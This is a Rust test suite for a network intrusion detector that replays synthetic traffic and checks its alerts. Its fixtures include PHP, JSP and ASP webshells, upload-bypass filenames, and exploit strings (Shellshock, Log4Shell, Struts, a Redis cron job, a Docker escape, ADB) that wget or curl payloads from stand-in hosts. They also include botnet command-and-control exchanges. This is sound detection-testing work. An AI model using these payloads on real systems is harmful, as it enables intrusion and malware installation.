//! Whole conversations of tools, and of ordinary programs that look like them, through the program as a user runs it: what each comes to. Each
//! has hosts of its own, and no name or address decides anything.

mod support {
    pub mod program;
    pub mod records;
    pub mod talk;
}

use std::collections::BTreeMap;
use std::io::Write;

use base64_of::base64;
use serde_json::Value;
use support::program::wherefrom;
use support::records::records;
use support::talk::Talks;

/// 2026-05-01T00:00:00Z, in nanoseconds.
const START_NS: u64 = 1_777_593_600_000_000_000;
/// Between two messages.
const PAUSE_NS: u64 = 500_000_000;
const HOME: &str = "202.112.10.0/24";

/// Base64 as RFC 4648 section 4 has it.
mod base64_of {
    pub fn base64(bytes: &[u8]) -> String {
        const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut text = String::new();
        for three in bytes.chunks(3) {
            let bits = three.iter().fold(0_u32, |sum, byte| sum << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
            for at in 0..4 {
                text.push(if at <= three.len() { char::from(LETTERS[(bits >> (18 - 6 * at)) as usize & 63]) } else { '=' });
            }
        }
        text
    }
}

/// Who calls.
#[derive(Clone, Copy, PartialEq)]
enum Way {
    In,
    Out,
}

struct Conversation {
    name: String,
    way: Way,
    port: u16,
    said: Vec<(bool, Vec<u8>)>,
    /// The kinds of its events, sorted.
    kinds: Vec<&'static str>,
    /// The family, where it is said.
    family: Option<&'static str>,
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

/// A request: method and target, further fields, each with its line end, and body.
fn request(start: &str, fields: &str, body: &[u8]) -> Vec<u8> {
    let length = if body.is_empty() { String::new() } else { format!("Content-Length: {}\r\n", body.len()) };
    let agent = if fields.contains("User-Agent") { "" } else { "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n" };
    [format!("{start} HTTP/1.1\r\nHost: www.example.cn\r\n{agent}{fields}{length}\r\n").as_bytes(), body].concat()
}

fn get(target: &str) -> Vec<u8> {
    request(&format!("GET {target}"), "", b"")
}

fn form(target: &str, body: &str) -> Vec<u8> {
    request(&format!("POST {target}"), "Content-Type: application/x-www-form-urlencoded\r\n", body.as_bytes())
}

fn post(target: &str, kind: &str, body: &[u8]) -> Vec<u8> {
    request(&format!("POST {target}"), &format!("Content-Type: {kind}\r\n"), body)
}

/// A form of one file, with its disposition as it is written.
fn upload(disposition: &str, content: &[u8]) -> Vec<u8> {
    let head = format!("--B\r\nContent-Disposition: {disposition}\r\nContent-Type: image/png\r\n\r\n");
    post("/up.php", "multipart/form-data; boundary=B", &[head.as_bytes(), content, b"\r\n--B--\r\n"].concat())
}

fn file(name: &str, content: &[u8]) -> Vec<u8> {
    upload(&format!("form-data; name=\"f\"; filename=\"{name}\""), content)
}

/// The same request in chunks.
fn chunked(request: &[u8], bytes: usize) -> Vec<u8> {
    let end = request.windows(4).position(|window| window == b"\r\n\r\n").unwrap() + 4;
    let head = String::from_utf8(request[..end].to_vec()).unwrap();
    let from = head.find("Content-Length").unwrap();
    let mut out = [&head.as_bytes()[..from], b"Transfer-Encoding: chunked\r\n\r\n"].concat();
    for chunk in request[end..].chunks(bytes) {
        out.extend([format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat());
    }
    out.extend(b"0\r\n\r\n");
    out
}

/// The same request with its body under gzip.
fn zipped(request: &[u8]) -> Vec<u8> {
    let end = request.windows(4).position(|window| window == b"\r\n\r\n").unwrap() + 4;
    let head = String::from_utf8(request[..end].to_vec()).unwrap();
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packer.write_all(&request[end..]).unwrap();
    let body = packer.finish().unwrap();
    let from = head.find("Content-Length").unwrap();
    [format!("{}Content-Encoding: gzip\r\nContent-Length: {}\r\n\r\n", &head[..from], body.len()).as_bytes(), &body].concat()
}

fn answer(kind: &str, body: &[u8]) -> Vec<u8> {
    [format!("HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes(), body].concat()
}

/// Bytes that look like chance, always the same.
fn noise(bytes: usize) -> Vec<u8> {
    let mut state = 1_u32;
    let next = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    };
    std::iter::repeat_with(next).take(bytes).collect()
}

#[derive(Default)]
struct Table(Vec<Conversation>);

impl Table {
    fn add(&mut self, name: &str, way: Way, port: u16, kinds: &[&'static str], family: Option<&'static str>, said: &[(bool, &[u8])]) {
        let said = said.iter().map(|(by_client, bytes)| (*by_client, bytes.to_vec())).collect();
        self.0.push(Conversation { name: name.into(), way, port, said, kinds: kinds.to_vec(), family });
    }

    /// A request from abroad and its answer.
    fn web(&mut self, name: &str, kinds: &[&'static str], family: Option<&'static str>, request: &[u8], answer: &[u8]) {
        self.add(name, Way::In, 80, kinds, family, &[(true, request), (false, answer)]);
    }

    /// Runs all of them in one capture, and compares.
    fn check(self) {
        assert!(self.0.len() < 250, "an address each");
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("talks.pcap");
        let mut talks = Talks::create(&path, START_NS);
        for (at, conversation) in self.0.iter().enumerate() {
            let home = ([202, 112, 10, at as u8], if conversation.way == Way::In { conversation.port } else { 40_000 });
            let far = ([145, 100, at as u8, 27], if conversation.way == Way::In { 40_000 } else { conversation.port });
            let (client, server) = if conversation.way == Way::In { (far, home) } else { (home, far) };
            let said: Vec<(bool, &[u8])> = conversation.said.iter().map(|(by_client, bytes)| (*by_client, &bytes[..])).collect();
            talks.connection(client, server, &said, PAUSE_NS);
        }
        talks.finish();
        let output = wherefrom(["read", "--json", "--home", HOME, path.to_str().unwrap()]);
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        let mut found: BTreeMap<usize, BTreeMap<String, Value>> = BTreeMap::new();
        for record in records(&output.stdout).into_iter().filter(|record| record["record"] == "event") {
            let kind = record["event"]["action"].as_str().unwrap().to_string();
            let place =
                ["source", "destination"].iter().find_map(|end| record[end]["ip"].as_str()?.strip_prefix("202.112.10.")?.parse().ok());
            if let Some(place) = place.filter(|_| ["webshell", "malware", "c2"].iter().any(|start| kind.starts_with(start))) {
                found.entry(place).or_default().insert(record["event"]["id"].as_str().unwrap().into(), record);
            }
        }
        let mut wrong = Vec::new();
        for (at, conversation) in self.0.iter().enumerate() {
            let events: Vec<&Value> = found.get(&at).into_iter().flat_map(BTreeMap::values).collect();
            let mut kinds: Vec<&str> = events.iter().map(|event| event["event"]["action"].as_str().unwrap()).collect();
            kinds.sort_unstable();
            let says = |event: &Value, family: &str| {
                event["wherefrom"]["webshell"]["shell"] == family || event["wherefrom"]["c2"]["family"] == family
            };
            let named = conversation.family.is_none_or(|family| events.iter().any(|event| says(event, family)));
            if kinds != conversation.kinds || !named {
                wrong.push(format!("{}: {kinds:?} instead of {:?} {:?}", conversation.name, conversation.kinds, conversation.family));
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }
}

const SHELL: &[u8] = b"<?php @eval($_POST['cmd']);?>";
const WEBSHELL: &[&str] = &["webshell"];
const ATTEMPT: &[&str] = &["malware_attempt"];
const C2: &[&str] = &["c2"];
const SUSPECT: &[&str] = &["c2_suspect"];
const PROGRAM: &[&str] = &["malware_suspect"];
const NOTHING: &[&str] = &[];

#[test]
fn scripts_are_put_there_in_every_way() {
    let mut table = Table::default();
    let saved = answer("text/html", b"saved");
    for disposition in [
        "form-data; name=\"f\"; filename=\"a.php\"",
        "form-data; name=f; filename=a.php",
        "form-data; name='f'; filename='a.php'",
        "form-data; name=\"f\"; filename=\"a.jpg\"; filename=\"a.php\"",
        "form-data; name=\"f\"; filename==\"a.php\"",
        "form-data; name=\"f\"; filename*=UTF-8''a%2Ephp",
        "form-data; name=\"f\"; filename=\"a.jpg\"; filename*=UTF-8''a.php",
        "form-data; name=\"f\";\r\n filename=\"a.php\"",
        "form-data; name=\"f\"; filename=\"x\\\".php\"",
    ] {
        table.web(disposition, WEBSHELL, None, &upload(disposition, SHELL), &saved);
    }
    for name in
        ["a.php.jpg", "a.asp;.jpg", "a.phtml", "a.pHp", "a.php.", "a.php%00.jpg", "a.php::$DATA", "a.php/.", "../../a.php5", "a.phar"]
    {
        table.web(name, WEBSHELL, None, &file(name, SHELL), &saved);
    }
    let picture = [b"\xff\xd8\xff\xe0".to_vec(), noise(20_000), SHELL.to_vec()].concat();
    table.web("behind a picture of 20,000 bytes", WEBSHELL, None, &file("a.php", &picture), &saved);
    table.web("chunked", WEBSHELL, None, &chunked(&file("a.php", SHELL), 7), &saved);
    table.web("under gzip", WEBSHELL, None, &zipped(&file("a.php", SHELL)), &saved);
    table.web("chunked and under gzip", WEBSHELL, None, &chunked(&zipped(&file("a.php", SHELL)), 5), &saved);
    for (name, content) in [
        ("a.php", &b"<?=`$_GET[0]`;"[..]),
        ("a.php", b"<? system($_REQUEST['c']); ?>"),
        ("a.php", b"<?php $f=base64_decode('c3lzdGVt'); $f($_GET['c']);"),
        ("a.php", b"<?php extract($_POST); eval($c);"),
        ("a.php", b"<?php parse_str($_SERVER['QUERY_STRING']); system($c);"),
        ("a.php", b"<?php eval(getenv('HTTP_CODE'));"),
        ("a.jsp", b"<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"),
        ("a.jspx", b"<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet>"),
        ("a.jsp", b"${Runtime.getRuntime().exec(param.c)}"),
        ("a.aspx", b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>"),
        ("a.asp", b"<%ExecuteGlobal request(\"a\")%>"),
        ("a.ashx", b"<%@ WebHandler Class=\"H\" %> public void P(C c){ System.Diagnostics.Process.Start(\"cmd\", c.Request[\"c\"]); }"),
        ("a.cfm", b"<cfexecute name=\"cmd.exe\" arguments=\"/c #url.c#\"></cfexecute>"),
        (".htaccess", b"SetHandler application/x-httpd-php"),
    ] {
        table.web(&String::from_utf8_lossy(content), WEBSHELL, None, &file(name, content), &saved);
    }
    let target = "PUT /x.jsp/";
    table.web(target, WEBSHELL, None, &request(target, "", b"<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"), &saved);
    table.add(
        "PUT and MOVE",
        Way::In,
        80,
        WEBSHELL,
        None,
        &[
            (true, &request("PUT /dav/a.txt", "", SHELL)),
            (false, &saved),
            (true, &request("MOVE /dav/a.txt", "Destination: http://www.example.cn/dav/a.php\r\n", b"")),
            (false, &saved),
        ],
    );
    let body = format!("{{\"filename\":\"a.php\",\"content\":\"{}\"}}", base64(SHELL));
    table.web("base64 in JSON", WEBSHELL, None, &post("/api", "application/json", body.as_bytes()), &saved);
    let body = "{\"Url\":\"http://f/<script runat=\\\"server\\\">function Page_Load(){eval(Request[\\\"c\\\"],\\\"unsafe\\\");}</script>\",\"FilePathName\":\"\\\\\\\\h\\\\c$\\\\z.aspx\"}";
    table.web("escaped in JSON", WEBSHELL, None, &post("/ecp/a.svc/SetObject", "application/json", body.as_bytes()), &saved);
    table.check();
}

#[test]
fn tools_drive_their_shells() {
    let mut table = Table::default();
    let code = "@ini_set(\"display_errors\", \"0\");@set_time_limit(0);function asenc($out){return $out;};function asoutput(){echo \"a1b2c\".\"d3e4f\";}ob_start();asoutput();die();";
    let output = answer("text/html", b"a1b2cd3e4f/var/www/html1122344556");
    let sword = Some("antsword");
    table.web("antsword", WEBSHELL, sword, &form("/a.php", &format!("ant={}", percent(code))), &output);
    let by_word = format!("ant={}&username={}", percent("@eval(@base64_decode($_POST['username']));"), percent(&base64(code.as_bytes())));
    table.web("antsword with a word for a name", WEBSHELL, sword, &form("/a.php", &by_word), &output);
    table.web("antsword in chunks of three", WEBSHELL, sword, &chunked(&form("/a.php", &by_word), 3), &output);
    let spelled: Vec<String> = code.bytes().map(|byte| format!("cHr(0x{byte:x})")).collect();
    table.web(
        "antsword, chr16",
        WEBSHELL,
        sword,
        &form("/a.php", &format!("ant={}", percent(&format!("@eVAl({});", spelled.join("."))))),
        &output,
    );
    let turned: String = code
        .chars()
        .map(|letter| match letter {
            'a'..='m' | 'A'..='M' => char::from(letter as u8 + 13),
            'n'..='z' | 'N'..='Z' => char::from(letter as u8 - 13),
            other => other,
        })
        .collect();
    let body = format!("ant={}&k803c0c48={}", percent("@eval(@str_rot13($_POST['k803c0c48']));"), percent(&turned));
    table.web("antsword, rot13", WEBSHELL, sword, &form("/a.php", &body), &output);
    let parts = format!("--B\r\nContent-Disposition: form-data; name=\"ant\"\r\n\r\n{code}\r\n--B--\r\n");
    table.web("antsword, multipart", WEBSHELL, sword, &post("/a.php", "multipart/form-data; boundary=B", parts.as_bytes()), &output);
    // Behinder 4 under its default key: AES-128 in blocks of `assert|eval(base64_decode('` and more, and the same without it where it is wrapped.
    let behinder = "3Mn1yNMtoZViV5wotQHPJm7cRWHP6PMjLILVEpbUrN5WygKtUlR1wc6m8iE0QldY";
    let back = answer("text/html", b"mAUYLzmqn5QPDkyI5lvSp0fjiBu1e7047YjfczwY6j707eSlJOR++rc2CLjN5Ka6");
    table.web("behinder", WEBSHELL, Some("behinder"), &form("/a.php", behinder), &back);
    table.web("behinder with magic behind it", WEBSHELL, Some("behinder"), &form("/a.php", &format!("{behinder}\u{1}\u{2}ab")), &back);
    let json = format!("{{\"id\":\"1\",\"body\":{{\"user\":\"{}\"}}}}", behinder.replace('+', "<").replace('/', ">"));
    table.web("behinder in JSON", WEBSHELL, Some("behinder"), &post("/a.php", "application/json", json.as_bytes()), &back);
    let echo: Vec<u8> = b"abcdefghijklmnopqrstuvwxyz0123456789".repeat(3);
    let first = post("/s.jsp", "application/plain", &echo);
    table.web("suo5 asks whether a stream goes both ways", WEBSHELL, Some("suo5"), &first, &answer("text/html", &echo[..32]));
    let masked = map(&[("ac", b"\0"), ("h", b"10.0.0.7"), ("p", b"3389")]);
    table.web(
        "suo5",
        WEBSHELL,
        Some("suo5"),
        &post("/s.jsp", "application/octet-stream", &masked),
        &answer("text/html", &map(&[("ac", b"\x03"), ("s", b"\0")])),
    );
    // Weevely's head and tail around base64, in what is sent and in what comes back.
    let sent = format!("aB1d41d8cd98f00{}b204e9800998Zx", base64(&noise(90)).replace('=', ""));
    let told = format!("d41d8cd98f00{}b204e9800998", base64(&noise(60)).replace('=', ""));
    table.web("weevely", WEBSHELL, Some("weevely"), &form("/a.php", &sent), &answer("text/html", told.as_bytes()));
    let keyed = [b"HTTP/1.1 200 OK\r\nSet-Cookie: PHPSESSID=1\r\nContent-Length: 16\r\n\r\n".as_slice(), b"0a1b2c3d4e5f6071"].concat();
    table.web("a token alone is none", &["webshell_suspect"], None, &get("/a.php?pass=645"), &keyed);
    table.web("a token without a session is nothing", NOTHING, None, &get("/a.php?pass=645"), &answer("text/html", b"0a1b2c3d4e5f6071"));
    table.check();
}

/// A map as suo5's first versions send it: length, key, and entries under exclusive or.
fn map(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (name, value) in entries {
        bytes.push(name.len() as u8);
        bytes.extend(name.as_bytes());
        bytes.extend((value.len() as u32).to_be_bytes());
        bytes.extend(*value);
    }
    let key = bytes[bytes.len() / 2] | 1;
    [&(bytes.len() as u32).to_be_bytes()[..], &[key], &bytes.iter().map(|byte| byte ^ key).collect::<Vec<u8>>()].concat()
}

#[test]
fn programs_would_be_fetched() {
    let mut table = Table::default();
    let ok = answer("text/html", b"ok");
    for target in [
        "/shell?cd+/tmp;rm+-rf+*;wget+http://145.95.1.2/jaws;sh+/tmp/jaws",
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://145.95.1.2/m+-O+/tmp/n;sh+n&curpath=/",
        "/language/Swedish${IFS}&&cd${IFS}/tmp;wget${IFS}http://145.95.1.2/a;sh${IFS}/tmp/a",
        "/ping.php?host=127.0.0.1%0awget%20http://145.95.1.2/a.sh%20-O%20/tmp/a.sh%0ash%20/tmp/a.sh",
        "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22wget%20-O%20/tmp/x%20http%3A%2F%2F145.95.1.2%2Fx%22%29%29%7D/",
        "/?x=${${env:ENV_NAME:-j}nd${env:ENV_NAME:-i}${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//145.95.1.2/a}",
        "/scripts/..%255c../winnt/system32/cmd.exe?/c+certutil+-urlcache+-split+-f+http://145.95.1.2/a.exe+c:%5Ca.exe",
        "/shell?cd+/tmp;wget+http://cnc.evil.example/a.sh;chmod+777+a.sh;sh+a.sh",
    ] {
        table.web(target, ATTEMPT, None, &get(target), &ok);
    }
    for fields in [
        "User-Agent: () { :; }; /bin/bash -c \"wget http://145.95.1.2/x -O /tmp/x; sh /tmp/x\"\r\n",
        "Content-Type: %{(#a='multipart/form-data').(#cmd='wget http://145.95.1.2/st -O /tmp/st; sh /tmp/st').(#p=#a)}\r\n",
        "User-Agentt: zerodiumsystem(\"wget http://145.95.1.2/z -O /tmp/z; sh /tmp/z\");\r\n",
        "SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://145.95.1.2/h && chmod 777 h && ./h`\r\n",
    ] {
        table.web(fields, ATTEMPT, None, &request("GET /", fields, b""), &ok);
    }
    let docker = r#"{"Image":"alpine","Cmd":["/bin/sh","-c","chroot /mnt sh -c \"curl -s http://145.95.1.2/c.sh | bash\""]}"#;
    table.web("docker", ATTEMPT, None, &post("/v1.24/containers/create", "application/json", docker.as_bytes()), &ok);
    let cron = b"*3\r\n$3\r\nset\r\n$1\r\nx\r\n$57\r\n\n\n*/1 * * * * curl -fsSL http://145.95.1.2/ash.sh | sh\n\n\r\n";
    table.add(
        "redis",
        Way::In,
        6379,
        ATTEMPT,
        None,
        &[(true, b"*1\r\n$4\r\nPING\r\n"), (false, b"+PONG\r\n"), (true, cron), (false, b"+OK\r\n")],
    );
    let message = |name: &[u8; 4], data: &[u8]| {
        let numbers = [1, 0, data.len() as u32, 0].iter().flat_map(|number| number.to_le_bytes()).collect::<Vec<u8>>();
        [&name[..], &numbers, &name.map(|byte| !byte), data].concat()
    };
    let open = message(b"OPEN", b"shell:cd /data/local/tmp; busybox wget http://145.95.1.2/adb -O adb; sh adb\0");
    let (hello, back) = (message(b"CNXN", b"host::\0"), message(b"CNXN", b"device::\0"));
    table.add("adb", Way::In, 5555, ATTEMPT, None, &[(true, &hello), (false, &back), (true, &open)]);
    for (name, quiet) in [
        ("search", get("/search?q=wget+http%3A%2F%2Fexample.org%2Fa.tar.gz+chmod+777")),
        ("template", form("/mail", &format!("body={}", percent("Dear ${user.name}, your code is ${code}.")))),
        (
            "health",
            post(
                "/v1.41/containers/create",
                "application/json",
                br#"{"Healthcheck":{"Test":["CMD-SHELL","curl -f http://localhost:8080/health || exit 1"]}}"#,
            ),
        ),
        (
            "ticket",
            post(
                "/api/tickets",
                "application/json",
                br#"{"body":"We found this in our logs, is it bad?\ncd /tmp; wget http://145.95.1.2/b.sh; sh b.sh\nPlease advise."}"#,
            ),
        ),
    ] {
        table.web(name, NOTHING, None, &quiet, &ok);
    }
    table.check();
}

#[test]
fn controllers_and_what_resembles_them() {
    let mut table = Table::default();
    let bot: [(bool, &[u8]); 6] =
        [(true, b"\0\0\0\x01"), (true, b"\x04"), (true, b"mips"), (true, b"\0\0"), (false, b"\0\0"), (true, b"\0\0")];
    table.add("mirai in pieces", Way::Out, 23, C2, Some("mirai"), &bot);
    table.add(
        "mirai, another version",
        Way::Out,
        1312,
        C2,
        Some("mirai"),
        &[(true, b"\0\0\0\x02\x04mips"), (true, b"\0\0"), (false, b"\0\0")],
    );
    table.add("gafgyt", Way::Out, 443, C2, Some("gafgyt"), &[(true, b"BUILD MIPS\n"), (false, b"PING\n"), (true, b"PONG\n")]);
    table.add(
        "gafgyt, another mark",
        Way::Out,
        23,
        C2,
        Some("gafgyt"),
        &[(true, b"BUILD X86\n"), (false, b".udp 145.95.1.9 80 60\n"), (true, b"PONG\n")],
    );
    table.add(
        "kaiten",
        Way::Out,
        6667,
        SUSPECT,
        Some("irc-bot"),
        &[
            (true, b"NICK EPAKQ\nUSER x localhost localhost :LQ\n"),
            (false, b":irc 376 EPAKQ :End\r\n"),
            (true, b"JOIN #x :key\n"),
            (false, b":op!o@h PRIVMSG #x :!* TSUNAMI 145.95.1.9 60\r\n"),
        ],
    );
    let stage = answer("application/octet-stream", &[b"\xfc\xe8\x89\0\0\0\x60".to_vec(), noise(4000)].concat());
    table.add("a stager", Way::Out, 80, SUSPECT, Some("http-stager"), &[(true, &get("/aaa9")), (false, &stage)]);
    table.add(
        "a shell",
        Way::Out,
        4444,
        SUSPECT,
        Some("reverse-shell"),
        &[(true, b"/bin/sh: 0: can't access tty; job control turned off\n$ "), (false, b"id\n")],
    );
    let page = answer("text/html", b"<html>a short link</html>");
    for (name, port, said) in [
        ("a short link", 80, vec![(true, get("/aaa9")), (false, page)]),
        (
            "chat about floods",
            6667,
            vec![
                (true, b"NICK alice\r\nUSER a 0 * :A\r\n".to_vec()),
                (false, b":bob!b@h PRIVMSG #linux :how do I stop a ddos or a udpflood?\r\n".to_vec()),
            ],
        ),
        (
            "chat about updates",
            7000,
            vec![
                (true, b"NICK bob\r\nUSER b 0 * :b\r\n".to_vec()),
                (false, b":x!y@z PRIVMSG #a :update http://example.org/x is out\r\n".to_vec()),
            ],
        ),
        (
            "mqtt",
            1883,
            vec![
                (true, b"\x10\x1a\0\x04MQTT\x04\x02\0\x3c\0\x0eclient-abc1234".to_vec()),
                (false, b"\x20\x02\0\0".to_vec()),
                (true, b"\xc0\0".to_vec()),
                (false, b"\xd0\0".to_vec()),
            ],
        ),
        (
            "bittorrent under way",
            6881,
            vec![(true, b"\0\0\0\x01\x02\0\0\0\0".to_vec()), (false, b"\0\0\0\x01\x01\0\0\0\0".to_vec()), (true, b"\0\0\0\0".to_vec())],
        ),
        ("a game's lines", 9000, vec![(true, b"LOGIN bob x\n".to_vec()), (false, b"PING\n".to_vec()), (true, b"PONG\n".to_vec())]),
        ("a build server's lines", 9000, vec![(true, b"BUILD 42 started\n".to_vec()), (false, b"OK\n".to_vec())]),
    ] {
        let said: Vec<(bool, &[u8])> = said.iter().map(|(by_client, bytes)| (*by_client, &bytes[..])).collect();
        table.add(name, Way::Out, port, NOTHING, None, &said);
    }
    table.check();
}

/// A PE file's head, and nothing behind it that matters.
fn program() -> Vec<u8> {
    let mut file = noise(2000);
    file[..2].copy_from_slice(b"MZ");
    file[0x3c..0x40].copy_from_slice(&0x80_u32.to_le_bytes());
    file[0x80..0x86].copy_from_slice(b"PE\0\0\x4c\x01");
    file[0x98..0x9a].copy_from_slice(b"\x0b\x01");
    file
}

#[test]
fn what_people_and_programs_fetch() {
    let mut table = Table::default();
    let fetch =
        |host: &str, path: &str, agent: &str| format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n\r\n").into_bytes();
    let (browser, any) = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "application/octet-stream");
    for (name, kinds, request, kind) in [
        ("as a picture, from an address", PROGRAM, fetch("145.95.1.2:8000", "/a.jpg", browser), "image/jpeg"),
        ("an installer", NOTHING, fetch("dl.vendor.example", "/setup.exe", browser), any),
        ("an update", NOTHING, fetch("au.download.windowsupdate.com", "/x.exe", "Windows-Update-Agent/10.0"), any),
        ("a browser's update", NOTHING, fetch("edgedl.me.gvt1.com", "/x.exe", "Microsoft BITS/7.8"), any),
        ("a driver, by one who browses", NOTHING, fetch("145.95.1.3", "/driver.exe", browser), any),
    ] {
        table.add(name, Way::Out, 80, kinds, None, &[(true, &request), (false, &answer(kind, &program()))]);
    }
    table.check();
}

#[test]
fn ordinary_sites_stay_silent() {
    let mut table = Table::default();
    let ok = answer("application/json", b"{\"ok\":true}");
    let with = |start: &str, fields: &str, body: &[u8]| request(start, fields, body);
    let session = "Cookie: wordpress_logged_in_1=a\r\nX-WP-Nonce: b\r\nContent-Type: application/json\r\n";
    let quoted = br#"{"title":"x.php","content":"<pre><?php eval($_POST[\"x\"]); ?></pre> is what we found in wp-content/uploads/x.php on the client site, so please check that your server does not have it."}"#;
    table.web("a post that quotes a shell", NOTHING, None, &with("POST /wp-json/wp/v2/posts/7", session, quoted), &ok);
    let theme = format!(
        "newcontent={}&file=footer.php&theme=t",
        percent("<?php\n?><footer><?php echo esc_html($_GET['s']); wp_footer(); ?></footer>")
    );
    let cookie = "Cookie: wordpress_logged_in_1=a\r\nContent-Type: application/x-www-form-urlencoded\r\n";
    table.web("a theme's editor", NOTHING, None, &with("POST /wp-admin/admin-ajax.php", cookie, theme.as_bytes()), &ok);
    let commit = br#"{"actions":[{"action":"create","file_path":"src/Process.php","content":"<?php class Process { function run($c) { return proc_open($c, $d, $p); } }"}]}"#;
    table.web(
        "a commit",
        NOTHING,
        None,
        &with("POST /api/v4/projects/7/repository/commits", "PRIVATE-TOKEN: x\r\nContent-Type: application/json\r\n", commit),
        &ok,
    );
    table.web(
        "a speed test",
        NOTHING,
        None,
        &post("/speedtest/upload.php?r=0.1", "application/octet-stream", &noise(4000)),
        &answer("text/plain", b"size=4000"),
    );
    table.web(
        "a callback",
        NOTHING,
        None,
        &form("/notify.php", &format!("status=OK&sign={}", percent(&base64(&noise(256))))),
        &answer("text/plain", b"success"),
    );
    let state = format!("__VIEWSTATE={}&x=1", percent(&base64(&noise(1200))));
    table.web("a view's state", NOTHING, None, &form("/default.aspx", &state), &answer("text/html", b"<html>ok</html>"));
    table.web(
        "a picture with a tag by chance",
        NOTHING,
        None,
        &file("a.jpg", &[b"\xff\xd8\xff\xe0".to_vec(), noise(300), b"<?=".to_vec(), noise(900)].concat()),
        &ok,
    );
    table.web("a lesson", NOTHING, None, &file("lesson.txt", SHELL), &ok);
    table.web("a version", NOTHING, None, &get("/a.php?v=12"), &answer("text/plain", b"deadbeefdeadbeef"));
    table.web(
        "a question",
        NOTHING,
        None,
        &form(
            "/posting.php",
            &format!(
                "message={}",
                percent("Hi, why does this not work? <?php eval($_POST['x']); ?> I saved it as test.php on my server and nothing is shown")
            ),
        ),
        &ok,
    );
    table.check();
}
